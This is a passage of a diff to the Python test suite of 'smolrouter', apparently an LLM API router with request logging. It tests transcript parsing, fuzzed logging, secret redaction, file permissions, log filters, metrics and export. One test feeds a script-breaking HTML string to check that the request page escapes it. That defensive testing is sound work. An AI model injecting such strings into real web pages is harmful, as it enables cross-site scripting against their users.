-        {"choices": [{"index": 0, "delta": {"tool_calls": [
-            {"index": 0, "id": "c1", "function": {"name": "f", "arguments": '{"a'}},
-            {"index": 1, "id": "c2", "function": {"name": "g", "arguments": ""}}]}}]},
-        {"choices": [{"index": 0, "delta": {"tool_calls": [
-            {"index": 0, "function": {"arguments": '":1}'}}]}}]}],
-     [("assistant", "", "", [("c1", "f", '{"a":1}'), ("c2", "g", "")])]),
-    ("a tool's result", "/v1/chat/completions", {"messages": [
-        {"role": "assistant", "content": None, "tool_calls": [CALL]},
-        {"role": "tool", "tool_call_id": "c1", "content": "42"}]}, b"",
-     [("assistant", "", "", [("c1", "f", '{"a":1}')]), ("tool", "42", "", [])]),
-    ("completions", "/v1/completions", {"prompt": ["one", "two"]}, completion({}, "text", "text"),
-     [("user", "one", "", []), ("user", "two", "", []), ("assistant", "text", "", [])]),
-    ("chat lines", "/api/chat", {"messages": [{"role": "user", "content": "q"}]}, b"".join(
-        dumps(line) + b"\n" for line in (
-            {"message": {"role": "assistant", "content": "a", "thinking": "t"}},
-            {"message": {"content": "b", "tool_calls": [
-                {"function": {"name": "f", "arguments": {"x": 1}}}]}}, {"done": True})),
-     [("user", "q", "", []), ("assistant", "ab", "t", [(None, "f", '{"x":1}')])]),
-    ("generate", "/api/generate", {"system": "s", "prompt": "p"},
-     {"response": "r", "thinking": "t", "done": True},
-     [("system", "s", "", []), ("user", "p", "", []), ("assistant", "r", "t", [])]),
-    ("messages", "/v1/messages", {"system": [{"type": "text", "text": "s"}], "messages": [
-        {"role": "user", "content": [
-            {"type": "tool_result", "tool_use_id": "t1",
-             "content": [{"type": "text", "text": "9"}]}]}]},
-     {"type": "message", "role": "assistant", "content": [
-         {"type": "thinking", "thinking": "t"}, {"type": "text", "text": "x"},
-         {"type": "tool_use", "id": "t2", "name": "g", "input": {"y": 2}}]},
-     [("system", "s", "", []), ("tool", "9", "", []),
-      ("assistant", "x", "t", [("t2", "g", '{"y":2}')])]),
-    ("streamed messages", "/v1/messages", {}, [
-        {"type": "message_start", "message": {"role": "assistant", "content": []}},
-        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
-        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "ab"}},
-        {"type": "content_block_start", "index": 1,
-         "content_block": {"type": "tool_use", "id": "t1", "name": "g", "input": {}}},
-        {"type": "content_block_delta", "index": 1,
-         "delta": {"type": "input_json_delta", "partial_json": '{"y":'}},
-        {"type": "content_block_delta", "index": 1,
-         "delta": {"type": "input_json_delta", "partial_json": "2}"}}],
-     [("assistant", "ab", "", [("t1", "g", '{"y":2}')])]),
-    ("responses", "/v1/responses", {"instructions": "i", "input": [
-        {"role": "user", "content": [{"type": "input_text", "text": "q"}]},
-        {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
-        {"type": "function_call_output", "call_id": "c", "output": "1"}]},
-     {"object": "response", "output": [
-         {"type": "reasoning", "summary": [{"type": "summary_text", "text": "t"}]},
-         {"type": "message", "role": "assistant", "content": [
-             {"type": "output_text", "text": "x"}]}]},
-     [("system", "i", "", []), ("user", "q", "", []), ("assistant", "", "", [("c", "f", "{}")]),
-      ("tool", "1", "", []), ("assistant", "x", "t", [])]),
-    ("streamed responses", "/v1/responses", {"input": "q"}, [
-        {"type": "response.created", "response": {"output": []}},
-        {"type": "response.output_text.delta", "delta": "x"},
-        {"type": "response.completed", "response": {"output": [
-            {"type": "message", "content": [{"type": "output_text", "text": "xy"}]}]}}],
-     [("user", "q", "", []), ("assistant", "xy", "", [])]),
-    ("no conversation", "/v1/chat/completions", {}, b"\xff\x00", []),
-    ("odd shapes", "/v1/chat/completions", {"messages": [5, {"role": "user", "content": 7}]},
-     {"choices": [{"index": 0, "message": {"content": {"a": 1}}}]}, None),
-]  # fmt: skip
+def test_every_request_leaves_a_line() -> None:
+    one, two = Upstream(lambda r: [DROP]), Upstream()
+    with one, two, both(one.url, two.url) as router:
+        ask(router, "pair")
+        request(router.port, "GET", "/v1/nothing-there/x?key=hidden")
+        raw(router.port, b"nonsense\r\n\r\n")
+        for word in ("one/m: ", "/v1/nothing-there/x", "400"):
+            assert until(functools.partial(lambda w: w in router.stderr, word))
+        assert "hidden" not in router.stderr
 
 
-@pytest.mark.parametrize("what, path, asked, answer, wanted", TALKS, ids=[t[0] for t in TALKS])
-def test_transcripts(what: str, path: str, asked: Any, answer: Any, wanted: Any) -> None:
-    said = b"".join(map(event, answer)) if isinstance(answer, list) else answer
-    found = said_in(said, path, asked)
-    if what == "two choices":  # in the order in which they began
-        found.sort()
-    assert wanted is None or found == wanted
+@functools.cache
+def scratch_store() -> Any:
+    """A database for one row."""
+    folder = tempfile.mkdtemp(prefix="smol-")
+    AT_END.callback(shutil.rmtree, folder, ignore_errors=True)
+    store = smolrouter.Store(smolrouter.Settings.from_mapping({"DB_PATH": f"{folder}/log.db"}))
+    AT_END.callback(store.close)
+    return store
 
 
-def test_pictures_of_a_transcript() -> None:
-    url = "data:image/png;base64,iVBORw0KGgo="
-    parts = [{"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": url}}]
-    asked = [
-        ("/v1/chat/completions", {"messages": [{"role": "user", "content": parts}]}),
-        ("/api/chat", {"messages": [{"role": "user", "content": "look",
-                                     "images": ["iVBORw0KGgo="]}]}),
-        ("/api/generate", {"prompt": "look", "images": ["iVBORw0KGgo="]}),
-        ("/v1/messages", {"messages": [{"role": "user", "content": [
-            {"type": "text", "text": "look"}, {"type": "image", "source": {
-                "type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}),
-        ("/v1/responses", {"input": [{"role": "user", "content": [
-            {"type": "input_text", "text": "look"}, {"type": "input_image", "image_url": url}]}]}),
-    ]  # fmt: skip
-    for path, document in asked:
-        (message,) = smolrouter.read_transcript(path, dumps(document), b"")
-        assert (message["content"], message["images"]) == ("look", [url]), path
+@fuzz(
+    lambda st: {
+        "path": st.sampled_from([*smolrouter.NO_THINK_MEMBERS, "/v1/embeddings", "/v1/x"]),
+        "doc": json_values(st)
+        | st.fixed_dictionaries(
+            {},
+            optional={
+                name: json_values(st)
+                | st.lists(
+                    st.fixed_dictionaries(
+                        {},
+                        optional={
+                            part: json_values(st)
+                            for part in (
+                                "role",
+                                "content",
+                                "tool_calls",
+                                "images",
+                                "type",
+                                "text",
+                                "name",
+                            )
+                        },
+                    ),
+                    max_size=3,
+                )
+                for name in ("messages", "prompt", "input", "system", "instructions", "images")
+            },
+        ),
+        "said": st.lists(
+            json_values(st)
+            | st.fixed_dictionaries(
+                {},
+                optional={
+                    name: json_values(st)
+                    | st.lists(
+                        st.fixed_dictionaries(
+                            {},
+                            optional={
+                                part: json_values(st)
+                                for part in ("index", "delta", "message", "text", "content")
+                            },
+                        ),
+                        max_size=2,
+                    )
+                    for name in (
+                        "choices",
+                        "message",
+                        "response",
+                        "type",
+                        "delta",
+                        "output",
+                        "usage",
+                        "prompt_tokens",
+                        "eval_count",
+                    )
+                },
+            ),
+            max_size=3,
+        ),
+        "odd": st.text(max_size=5) | st.sampled_from(["\ud800", "a\0b", "x" * 300]),
+        "status": st.sampled_from([0, 200, 404, 499, 502]),
+        "stream": st.booleans(),
+    }
+)
+def test_fuzz_log(path: str, doc: Any, said: list, odd: str, status: int, stream: bool) -> None:
+    """Whatever passed through can be read, packed, written to a database and shown."""
+    pieces = [b"data: %b\n\n" % json.dumps(d).encode() if stream else dumps(d) for d in said]
+    target = f"{path}?key={urllib.parse.quote(odd, errors='replace')}"
+    top = smolrouter.parse_request_head(f"POST {target} HTTP/1.1\r\nHost: a".encode())
+    asked = smolrouter.Request(top, None, None, "::1", dumps(doc))
+    step = smolrouter.Step(odd, True, odd)
+    decision = smolrouter.Decision(odd, odd, odd, "failover", (), (step,))
+    record = smolrouter.Record("id", asked, "openai", stream, decision)
+    record.id, record.finished, record.status = 1, record.clock + 1.0, status
+    record.sent_model = record.error = odd
+    record.pieces = pieces
+    record.attempts = [smolrouter.Attempt(odd, odd, None, odd, 1.0)]
+    note = smolrouter.make_note(record)
+    assert marshal.loads(marshal.dumps(tuple(note), 2)) == tuple(note)
+    detail = smolrouter.make_detail(note, 1 << 20)
+    row = smolrouter.make_row(note, detail)
+    entry = smolrouter.make_entry(row, detail)
+    store = scratch_store()
+    db = store.open()
+    store.write([], [entry], {})
+    (kept,) = db.execute(f"SELECT {smolrouter.COLUMNS} FROM requests").fetchall()
+    blobs = [blob and blob[1] for blob in entry.blobs]
+    document = smolrouter.detail_document(
+        smolrouter.Row._make(kept), smolrouter.read_detail(entry.data, blobs)
+    )
+    assert json.loads(smolrouter.encode_json(document))["status_code"] == (status or None)
+    for form in ("csv", "jsonl", "openai"):
+        assert smolrouter.export_page(store, db, {"format": form})[1] == 0
 
 
-# -- secrets and bodies ------------------------------------------------------------
+# --- secrets and bodies ---------------------------------------------------------------
+
+
+def made_entry(number: int, days: float = 0.0, **more: Any) -> Any:
+    """An entry that was written some days ago."""
+    detail = smolrouter.Detail("{}", b"asked" * 50, os.urandom(300))
+    return smolrouter.make_entry(made_row(number, days, **more), detail)
 
 
 def test_no_secret_is_kept_or_shown(kept: Kept) -> None:
@@ -9229,429 +7873,18 @@ def test_space_is_given_back(kept: Kept) -> None:
     assert kept.ask("SELECT count(*) FROM requests")[0][0] == 0
 
 
-def made_row(number: int, days: float = 0.0, **more: Any) -> Any:
-    """A row as it was written some days ago."""
-    moment = int((time.time() - days * 86_400) * 1000)
-    values = {
-        "id": moment * 1024 + number, "request_id": f"{number:020x}", "timestamp": moment,
-        "source_ip": "10.0.0.1", "method": "POST", "path": "/v1/chat/completions",
-        "service_type": "openai", "upstream_url": "http://box:1", "route": "default", "stream": 0,
-        "request_size": 10, "response_size": 20, "status_code": 200, "failed": 0,
-        "attempts": "[]", "prompt_tokens": 5, "completion_tokens": 6, "tokens_estimated": 0,
-        "duration_ms": 100.0, "completed_at": moment + 100, "level": 0,
-        **dict.fromkeys(("original_model", "mapped_model", "sent_model"), "made"), **more,
-    }  # fmt: skip
-    return smolrouter.Row(*(values.get(name) for name in smolrouter.Row._fields))
+def test_nobody_else_can_read_what_is_kept() -> None:
+    shell = ("/bin/sh", "-c", 'umask 022; exec "$0" "$@"', sys.executable)
+    with Router({"DEFAULT_UPSTREAM": stage().url}, python=shell) as router:
+        assert ask(router, "tiny", "a" * 100_000).status == 200
+        stored = [router.folder / "requests.db", router.folder / "blob_storage"]
+        assert until(lambda: all(path.exists() for path in stored))
+        assert until(lambda: [p for p in stored[1].rglob("*") if p.is_file()])
+        for path in router.folder.rglob("*"):
+            assert not path.stat().st_mode & 0o077, path
 
 
-def made_entry(number: int, days: float = 0.0, **more: Any) -> Any:
-    """An entry that was written some days ago."""
-    detail = smolrouter.Detail("{}", b"asked" * 50, os.urandom(300))
-    return smolrouter.make_entry(made_row(number, days, **more), detail)
-
-
-# -- what the page asks ------------------------------------------------------------
-
-
-@functools.cache
-def made_log() -> Router:
-    """A router whose log was made: 4,000 rows over three days."""
-    kept = Kept(pathlib.Path(tempfile.mkdtemp(prefix="smol-")))
-    AT_END.callback(shutil.rmtree, kept.file.parent, True)
-    store = made_store(kept.file.parent)
-    tallies: Any = {}
-    rows = []
-    for number in range(4000):
-        chance = zlib.crc32(b"%d" % number) | 1 << 20
-        more = {
-            "sent_model": f"model-{number % 4}",
-            "source_ip": f"10.0.0.{number % 5}",
-            "original_model": "nick" if number % 40 == 0 else f"model-{number % 4}",
-            "duration_ms": 10.0 + number % 100,
-            "level": (chance & -chance).bit_length() - 1,
-        }
-        if number % 10 == 3:
-            more |= {"status_code": 404 if number % 20 == 3 else 502, "failed": 1}
-        if number % 3 == 0:
-            more |= {"service_type": "ollama", "stream": 1, "ttft_ms": 5.0}
-        row = made_row(number, 3 * (1 - number / 4000), **more)
-        smolrouter.add_row(tallies, row)
-        rows.append(row)
-    store.write(rows, [], tallies)
-    store.close()
-    router = Router(kept.settings)
-    AT_END.callback(router.kill)
-    return router
-
-
-def test_lists_are_paged_by_key() -> None:
-    seen: list[int] = []
-    while page := document(made_log(), f"/api/logs?limit=700&before={seen[-1] if seen else ''}"):
-        seen += [row["id"] for row in page]
-    assert len(seen) == 4000 and seen == sorted(set(seen), reverse=True)
-    assert len(document(made_log(), "/api/logs")) == 100
-
-
-FILTERS = [
-    # query, rows of 4,000
-    ("model=model-1", 1000), ("model=nick", 100), ("model=nobody", 0),
-    ("service_type=ollama", 1334),
-    ("service_type=OLLAMA", 1334), ("status=error", 400), ("status=404", 200), ("status=4xx", 200),
-    ("status=502", 200), ("status=5xx", 200), ("status=200", 3600), ("status=2xx", 3600),
-    ("source=10.0.0.2", 800), ("upstream=http%3A%2F%2Fbox%3A1", 4000), ("upstream=http://no", 0),
-    ("upstream=box:1", 4000), ("upstream=http://box:1/v1/", 4000), ("upstream=no+such+server", 0),
-    ("model=model-3&status=error", 200), ("model=model-3&source=10.0.0.3&status=404", 200),
-    ("model=nick&service_type=ollama", 34), ("source=10.0.0.0&model=nick", 100),
-    ("q=NICK", 100), ("q=model-2&status=error", 0), ("q=%25", 0), ("q=_", 0), ("q=10.0.0.4", 800),
-    ("model=&status=&q=", 4000),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("query, count", FILTERS)
-def test_filters(query: str, count: int) -> None:
-    page = document(made_log(), f"/api/logs?limit=1000&{query}")
-    assert len(page) == min(count, 1000)
-    ids = [row["id"] for row in page]
-    assert ids == sorted(ids, reverse=True)
-
-
-@pytest.mark.parametrize("path, word", [
-    ("/api/logs?limit=0", "limit"), ("/api/logs?limit=1e9", "whole number"),
-    ("/api/logs?limit=1001", "1000"), ("/api/logs?before=x", "before"),
-    ("/api/logs?before=99999999999999999999", "before"), ("/api/logs?status=6xx", "4xx"),
-    ("/api/logs?status=%D9%A4%D9%A0%D9%A4", "4xx"), ("/api/logs?service_type=bing", "openai"),
-    ("/api/logs?color=red", "color"), ("/api/stats?hours=0", "hours"),
-    ("/api/stats?hours=1.5", "whole number"), ("/api/performance?limit=-1", "limit"),
-    ("/api/performance?hours=99999", "hours"), ("/api/export?since=1y", "7d"),
-    ("/api/export?format=xml", "jsonl"), ("/api/logs?model=%00", "model"),
-    ("/api/routes?source_host=banana", "IPv4 or IPv6 address"),
-    ("/api/routes?model=x&source_host=10.0.0.0/8", "IPv4 or IPv6 address"),
-])  # fmt: skip
-def test_bad_parameters(path: str, word: str) -> None:
-    got = request(made_log().port, "GET", path)
-    assert got.status == 400 and word in json.loads(got.content)["error"]["message"]
-
-
-@pytest.mark.parametrize("number", ["1", "0", "-1", "x", "99999999999999999999", "1/2", "%31"])
-def test_unknown_requests(number: str) -> None:
-    for prefix in ("/api/request", "/request"):
-        assert request(made_log().port, "GET", f"{prefix}/{number}").status == 404
-
-
-def test_stats_add_up() -> None:
-    stats = document(made_log(), "/api/stats?hours=24")
-    assert stats["total_requests"] == 4000
-    assert (stats["openai_requests"], stats["ollama_requests"]) == (2666, 1334)
-    assert len(stats["requests_per_hour"]) == 24
-    assert sum(stats["requests_per_hour"]) == stats["recent_requests"]
-    assert 1250 < stats["recent_requests"] < 1400 and stats["inflight_requests"] == 0
-    assert stats["error_rate"] == pytest.approx(0.1, abs=0.01)
-    assert 50 < stats["latency_ms"]["p50"] < 75 and 95 < stats["latency_ms"]["p95"] < 128
-    assert stats["latency_ms"]["p50"] <= stats["latency_ms"]["p95"] <= stats["latency_ms"]["p99"]
-    assert 4 <= stats["ttft_ms"]["p50"] <= 5.7
-    assert stats["prompt_tokens"] == 5 * stats["recent_requests"]
-    assert stats["log"] == {"enabled": True, "error": None, "notice": None, "backlog": 0, "lost": 0}
-    week = document(made_log(), "/api/stats?hours=168")
-    assert week["recent_requests"] == 4000 and len(week["requests_per_hour"]) == 168
-
-
-def nearest_rank(values: Iterable[float | None], percent: int) -> float:
-    """The smallest value that has at least so many percent at or below it."""
-    some = [value for value in values if value is not None]
-    return min(one for one in some if sum(v <= one for v in some) * 100 >= percent * len(some))
-
-
-def test_percentiles_of_few_requests_are_exact(kept: Kept) -> None:
-    store, tallies, rows = made_store(kept.file.parent), {}, []
-    for number in range(60):
-        more = {
-            "sent_model": "once" if number == 7 else "often",
-            "duration_ms": 1.1 * number**2 + 1,
-            "ttft_ms": number / 3 if number % 2 else None,
-        }
-        rows.append(made_row(number, 0, **more))
-        smolrouter.add_row(tallies, rows[-1])
-    store.write(rows, [], tallies)
-
-    def wrong(doc: Mapping[str, Any], some: list[Any]) -> list[str]:
-        parts = {
-            "p50_ms": ("duration_ms", 50),
-            "p95_ms": ("duration_ms", 95),
-            "ttft_p50_ms": ("ttft_ms", 50),
-        }
-        return [
-            name
-            for name, (column, percent) in parts.items()
-            if doc[name] != nearest_rank([getattr(row, column) for row in some], percent)
-        ]
-
-    with kept.router() as router:
-        stats = document(router, "/api/stats")
-        for name, column in (("latency_ms", "duration_ms"), ("ttft_ms", "ttft_ms")):
-            values = [getattr(row, column) for row in rows]
-            assert stats[name] == {f"p{n}": nearest_rank(values, n) for n in (50, 95, 99)}
-        for query in ("", "?limit=10", "?model=once", "?service_type=openai"):
-            for doc in document(router, f"/api/performance{query}")["models"]:
-                its = [row for row in rows if row.sent_model == doc["model"]]
-                assert not wrong(doc, its), query
-        assert len(document(router, "/api/performance?limit=10")["data_points"]) == 10
-        store.db.execute("DELETE FROM requests WHERE id < ?", (rows[30].id,))
-        for at, known in (("/api/stats", "latency_ms"), ("/api/performance?model=often", "")):
-            doc = document(router, at)  # what is left of the rows speaks not for all
-            p50 = doc[known]["p50"] if known else doc["models"][0]["p50_ms"]
-            assert 512 < p50 < 1449 and p50 != nearest_rank(
-                [row.duration_ms for row in rows[30:]], 50
-            )
-    store.close()
-
-
-@pytest.mark.parametrize("query, total", [
-    ("hours=168&limit=5000", 4000), ("hours=168&limit=2000", 4000), ("hours=168&limit=100", 4000),
-    ("hours=168&limit=100&model=model-1", 1000), ("hours=168&limit=100&service_type=ollama", 1334),
-    ("hours=168&limit=3000&service_type=ollama", 1334), ("hours=168&limit=7", 4000),
-    ("hours=168&model=nobody", 0),
-])  # fmt: skip
-def test_performance_is_sampled_evenly(query: str, total: int) -> None:
-    doc = document(made_log(), f"/api/performance?{query}")
-    limit = int(dict(urllib.parse.parse_qsl(query)).get("limit", 2000))
-    points, meta = doc["data_points"], doc["meta"]
-    assert meta["sampled"] == (total > limit) and meta["total_points"] == total
-    assert min(total, limit) * 0.5 <= len(points) <= limit
-    if total <= limit:
-        assert len(points) == total
-    moments = [point["timestamp"] for point in points]
-    assert moments == sorted(moments) and all(map(MOMENT.fullmatch, moments))
-    if total > limit >= 100:  # no end is cut: each third of the time has its share
-        thirds = [0, 0, 0]
-        ids = [point["id"] for point in points]
-        low = (int(time.time() * 1000) - 3 * 86_400_000) * 1024
-        for number in ids:
-            thirds[min(2, (number - low) * 3 // (3 * 86_400_000 * 1024))] += 1
-        assert min(thirds) > len(points) / 6
-    assert sum(model["requests"] for model in doc["models"]) == total
-    for model in doc["models"]:
-        assert model["prompt_tokens"] == 5 * model["requests"]
-        assert model["p50_ms"] <= model["p95_ms"]
-    for point in points[:20]:
-        assert point["total_tokens"] == 11 and point["tokens_per_second"] > 0
-
-
-def test_no_query_walks_the_log(tmp_path: pathlib.Path) -> None:
-    with contextlib.closing(made_store(tmp_path).open()) as db:
-
-        def plan(sql: str, values: Any) -> list[str]:
-            return [row[3] for row in db.execute(f"EXPLAIN QUERY PLAN {sql}", values)]
-
-        whole = {"model": "m", "source": "s", "upstream": "u", "service_type": "openai"}
-        asked = [{}, {"before": 5}, {"q": "x"}, whole, *({name: whole[name]} for name in whole)]
-        asked += [{**one, "status": smolrouter.parse_status(text)}
-                  for one in asked for text in ("404", "4xx", "200", "error")]  # fmt: skip
-        for one in asked:
-            for step in plan(*smolrouter.select_rows(one)):
-                assert not step.startswith("SCAN requests"), (one, step)
-                assert "TEMP B-TREE" not in step, (one, step)
-        for level in range(12):
-            for given in ({}, {"model": "m"}, {"service_type": "openai"}):
-                seen: list[str] = []
-                db.set_trace_callback(seen.append)
-                smolrouter.read_points(db, 1, level, given)
-                db.set_trace_callback(None)
-                assert not [s for s in plan(seen[0], ()) if s.startswith("SCAN")], seen[0]
-                if given and level < 3:  # few rows of many are found in their index
-                    assert re.search(r"USING INDEX by_(sent|service) ", plan(seen[0], ())[0])
-
-
-def test_events_tell_what_happens() -> None:
-    model = stage().plays(
-        [
-            *stream_answer([event(piece("a ")), 0.4, event(piece("b "))]),
-        ]
-    )
-    with connect(logging().port) as sock:
-        sock.sendall(encode_request("GET", "/api/events"))
-        heard = b""
-        while b"hello" not in heard:
-            heard += sock.recv(65536)
-        ask(logging(), model, stream=True)
-        number = row_of(logging(), model)["id"]
-
-        def news() -> dict[str, list[Any]]:
-            nonlocal heard
-            heard += sock.recv(65536)
-            found: dict[str, list[Any]] = {"started": [], "first_token": [], "finished": []}
-            for text in re.findall(rb"event: requests\ndata: (\{.*\})\n\n", heard):
-                for name, rows in json.loads(text).items():
-                    found[name] += rows
-            return found
-
-        sock.settimeout(PATIENCE)
-        found = news()
-        while number not in [row["id"] for row in found["finished"]]:
-            found = news()
-        assert b"text/event-stream" in heard
-        started = [row for row in found["started"] if row["id"] == number]
-        assert len(started) == 1 and started[0]["original_model"] == model
-        assert sorted(started[0]) == sorted(RUNNING_NAMES)
-        assert number in found["first_token"]
-        done = [row for row in found["finished"] if row["id"] == number]
-        assert len(done) == 1 and sorted(done[0]) == sorted(ROW_NAMES)
-
-
-def test_draining_ends_the_events(kept: Kept) -> None:
-    with kept.router() as router, connect(router.port) as sock:
-        sock.sendall(encode_request("GET", "/api/events"))
-        until(lambda: b"hello" in sock.recv(65536))
-        begun = time.monotonic()
-        assert router.stop() == 0 and time.monotonic() - begun < 5
-
-
-def test_request_page_carries_its_data() -> None:
-    text = "</script><!-- <script> \u2028"
-    ask(logging(), "inline", text)
-    number = row_of(logging(), "inline")["id"]
-    got = request(logging().port, "GET", f"/request/{number}")
-    assert (got.status, got.get("Content-Type")) == (200, "text/html; charset=utf-8")
-    match = re.search(
-        rb'<script type="application/json" id="request-data">(.*?)</script>', got.content, re.S
-    )
-    assert match and b"<" not in match[1]
-    assert json.loads(match[1]) == document(logging(), f"/api/request/{number}")
-    assert json.loads(match[1])["transcript"][0]["content"] == text
-
-
-def test_upstreams_say_how_they_are() -> None:
-    routes = {
-        "servers": {"off": "http://127.0.0.1:9", "box": stage().url},
-        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
-    }
-    settings = {"DEFAULT_UPSTREAM": stage().url, "WEBUI_SECURITY": "NONE"}
-    with Router(settings, routes) as router:
-        ask(router, "up")
-        ask(router, "either")
-        row_of(router, "either")
-        times = [row["duration_ms"] for row in document(router, "/api/logs")]
-        found = {doc["name"]: doc for doc in document(router, "/api/upstreams")}
-    assert found["box"]["state"] == "up" and found["off"]["state"] == "down"
-    assert "refused" in found["off"]["last_error"]
-    assert found["off"]["failures"] >= 1 and found["box"]["failures"] == 0
-    assert found["box"]["requests"] == 2 and found["box"]["p50_ms"] == min(times)
-    assert "tiny" in found["box"]["models"] and found["off"]["models"] == []
-    assert (found["box"]["url"], found["box"]["api"]) == (stage().url, "openai")
-
-
-def test_a_server_is_asked_for_by_its_name() -> None:
-    ask(logging(), "by-name")
-    number, place = row_of(logging(), "by-name")["id"], stage().url.partition("://")[2]
-    for text in ("box", stage().url, place):
-        assert number in [row["id"] for row in document(logging(), f"/api/logs?upstream={text}")]
-    assert document(logging(), "/api/logs?upstream=off") == []
-
-
-def test_routes_explain_themselves() -> None:
-    doc = document(logging(), "/api/routes?model=asked-for&source_host=10.1.2.3")
-    assert [server["name"] for server in doc["servers"]] == ["off", "box"]
-    assert doc["aliases"][0]["name"] == "either"
-    assert doc["routes"] == [
-        {"rule": "routes[0]", "match": "model asked-for", "route": "box/sent"},
-        {"rule": "routes[1]", "match": "model friend", "route": "alias either"},
-    ]
-    decision = doc["decision"]
-    assert decision["trail"][-1]["matched"] and decision["route"] == "routes[0]"
-    assert decision["instances"] == [{"server": "box", "url": stage().url, "model": "sent"}]
-    assert decision["source_host"] == "10.1.2.3"
-    assert "decision" not in document(logging(), "/api/routes")
-
-
-def test_metrics_are_well_formed() -> None:
-    ask(logging(), 'quo"te\\')
-    ask(logging(), "measured", stream=True)
-    row_of(logging(), "measured")
-    got = request(logging().port, "GET", "/metrics")
-    assert got.get("Content-Type").startswith("text/plain; version=0.0.4")
-    text, kinds, samples = got.content.decode(), {}, {}
-    label = r'[a-z]+="(?:[^"\\\n]|\\["\\n])*"'
-    for line in text.splitlines():
-        if line.startswith("# TYPE "):
-            _, _, name, kind = line.split(" ")
-            assert name not in kinds and f"# HELP {name} " in text
-            kinds[name] = kind
-        elif not line.startswith("# HELP "):
-            match = re.fullmatch(rf"([a-z_]+)(?:\{{({label}(?:,{label})*)\}})? ([0-9.e+]+)", line)
-            assert match, line
-            family = next(n for n in kinds if re.fullmatch(rf"{n}(_bucket|_sum|_count)?", match[1]))
-            assert (kinds[family] == "counter") == match[1].endswith("_total")
-            assert (match[1], match[2]) not in samples
-            samples[match[1], match[2]] = float(match[3])
-    wanted = f'service="openai",model="measured",upstream="{stage().url}"'
-    assert samples["smolrouter_requests_total", wanted] == 1
-    assert samples["smolrouter_completion_tokens_total", wanted] == 3
-    counts = [
-        value
-        for (name, labels), value in samples.items()
-        if name == "smolrouter_duration_seconds_bucket" and labels.startswith(wanted)
-    ]
-    assert counts == sorted(counts) and counts[-1] == 1
-    assert samples["smolrouter_ttft_seconds_count", wanted] == 1
-    promtool = shutil.which("promtool")
-    if promtool:
-        subprocess.run([promtool, "check", "metrics"], input=got.content, check=True)
-
-
-# -- export ------------------------------------------------------------------------
-
-
-def test_export_in_every_form(kept: Kept) -> None:
-    model = stage().plays(sse_answer([piece("<think>hm</think>Yes"), ending(), "[DONE]"]))
-    failing = stage().plays(json_answer({"error": "no"}, 500))
-    with kept.router() as router:
-        ask(router, model, 'one, "two"', stream=True)
-        ask(router, failing)
-        request(router.port, "POST", "/v1/embeddings", {"model": "vectors", "input": "x"})
-        kept.written(3)
-        settings = {name: str(value) for name, value in kept.settings.items()}
-        for form in ("jsonl", "csv", "openai"):
-            got = request(router.port, "GET", f"/api/export?format={form}&since=1h")
-            assert got.status == 200 and "attachment" in got.get("Content-Disposition")
-            done = run("export", "--format", form, "--since", "1h", settings=settings)
-            assert (done.returncode, done.stdout) == (0, got.content.decode())
-            lines = done.stdout.splitlines()
-            if form == "csv":
-                rows = list(csv.DictReader(lines))
-                assert sorted(rows[0]) == sorted(ROW_NAMES) and len(rows) == 3
-                assert rows[-1]["original_model"] == model and rows[-1]["is_inflight"] == "False"
-            elif form == "jsonl":
-                assert [json.loads(line)["original_model"] for line in lines] == [
-                    "vectors",
-                    failing,
-                    model,
-                ]
-                assert json.loads(lines[-1]) == detail_of(router, model)
-            else:
-                assert [json.loads(line) for line in lines] == [
-                    {
-                        "messages": [
-                            {"role": "user", "content": 'one, "two"'},
-                            {"role": "assistant", "content": "Yes"},
-                        ]
-                    }
-                ]
-        got = request(router.port, "GET", f"/api/export?model={failing}")
-        assert len(got.content.splitlines()) == 1
-    bad = run("export", "--format", "xml", settings=settings)
-    assert bad.returncode == 2 and "jsonl" in bad.stderr and bad.stderr.count("\n") == 1
-    bad = run("export", settings={"DB_PATH": str(kept.file.parent / "none.db")})
-    assert bad.returncode == 2 and "(DB_PATH=" in bad.stderr and "none.db" in bad.stderr
-    bad = run("export", "--since", "banana", settings=settings)
-    assert bad.returncode == 2 and "'banana': allowed is an age" in bad.stderr
-    assert "DB_PATH" not in bad.stderr
-
-
-def test_export_is_streamed() -> None:
-    got = request(made_log().port, "GET", "/api/export?format=csv")
-    assert got.content.count(b"\n") == 4001 and len(got.pieces) > 5
-
-
-# -- faults ------------------------------------------------------------------------
+# --- faults ---------------------------------------------------------------------------
 
 
 def log_state(router: Router) -> dict[str, Any]:
@@ -9940,20 +8173,28 @@ def test_a_full_disk_stops_nothing(kept: Kept) -> None:
         assert log_state(router)["backlog"] > 0
 
 
-# -- the process that writes while many requests end ---------------------------------
+def test_a_log_that_nobody_reads_stops_nothing() -> None:
+    settings = {"LISTEN_PORT": 0, "DEFAULT_UPSTREAM": stage().url}
+    with tempfile.TemporaryDirectory() as folder:
+        process = subprocess.Popen(
+            [sys.executable, str(SMOLROUTER)],
+            cwd=folder, env=bare_environment(settings), stderr=subprocess.PIPE,
+        )  # fmt: skip
+        try:
+            assert process.stderr
+            port = int(process.stderr.readline().rpartition(b":")[2])
+            with connect(port) as sock:
+                for _ in range(1200):  # more lines than a pipe holds
+                    exchange(sock, get("/v1/" + "x" * 100))
+                process.stderr.close()
+                for _ in range(3):
+                    assert parse(exchange(sock, get("/v1/x"))).status == 200
+        finally:
+            process.terminate()
+            assert process.wait(PATIENCE) == 0
 
 
-@functools.cache
-def altered(*changes: tuple[str, str]) -> pathlib.Path:
-    """The program with other words in some places."""
-    folder = pathlib.Path(tempfile.mkdtemp(prefix="smol-"))
-    AT_END.callback(shutil.rmtree, folder, ignore_errors=True)
-    text = SOURCE
-    for there, instead in changes:
-        assert text.count(there) == 1, there
-        text = text.replace(there, instead)
-    (folder / "smolrouter.py").write_text(text)
-    return folder / "smolrouter.py"
+# --- the process that writes while many requests end ----------------------------------
 
 
 def eager(patience: float = 60.0, stays: float = 0.5, many: int = 0) -> pathlib.Path:
@@ -10415,7 +8656,1769 @@ def test_the_backlog_is_bounded() -> None:
 
 
 # ======================================================================================
-# Page
+# 14  Relay
+# ======================================================================================
+# One exchange, first byte to last: failover, fields, usage, and events as they come.
+
+# --- failover -------------------------------------------------------------------------
+
+
+def unreachable() -> str:
